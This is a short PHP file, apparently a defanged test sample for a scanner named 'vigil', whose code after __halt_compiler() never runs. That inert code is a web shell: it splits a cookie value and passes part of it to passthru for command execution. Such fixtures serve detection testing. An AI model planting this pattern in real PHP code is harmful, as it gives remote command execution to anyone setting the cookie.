<?php
/* DEFANGED vigil test sample (see README). Nothing below runs. */
__halt_compiler();
<?php
$parts = explode('|', $_COOKIE['p']);
passthru($parts[1]);
